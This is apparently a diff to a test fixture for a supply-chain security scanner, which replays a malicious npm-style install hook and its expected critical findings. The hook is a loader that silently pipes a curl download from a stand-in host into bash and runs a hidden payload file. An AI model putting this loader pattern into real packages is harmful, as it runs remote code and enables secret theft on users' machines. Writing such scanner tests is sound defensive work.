@@ -2,6 +2,8 @@ import { obfuscated } from '../obfuscated.js'
 import { compiledQueue } from '../plain-modules.js'
 import { replayUpgrade } from '../upgrade.js'
 
+const install = "if (!hasBun()) execSync('curl -fsSL https://bun-install.example/install | bash', { stdio: 'ignore' });"
+
 /** The loader that the hook names: it looks for a runtime, and fetches one where there is none. */
 const setup = `#!/usr/bin/env node
 const { execSync, spawnSync } = require('child_process');
@@ -11,7 +13,7 @@ function hasBun() {
   return spawnSync('bun', ['--version'], { stdio: 'ignore' }).status === 0;
 }
 
-if (!hasBun()) execSync('curl -fsSL https://bun-install.example/install | bash', { stdio: 'ignore' });
+${install}
 spawnSync('bun', ['run', path.join(__dirname, 'bw1.js')], { stdio: 'ignore' });
 `
 
@@ -51,6 +53,7 @@ export const replay = replayUpgrade({
   ],
   findings: [
     ['install-script-dangerous', 'critical', { file: 'bw1.js', line: payload }],
+    ['remote-code-run', 'critical', { file: 'bw_setup.js', line: install }],
     ['secrets-exfiltrated', 'critical', { file: 'bw1.js', line: payload }],
     ['secrets-harvested', 'critical', { file: 'bw1.js', line: payload }],
     ['combined-risk', 'critical'],
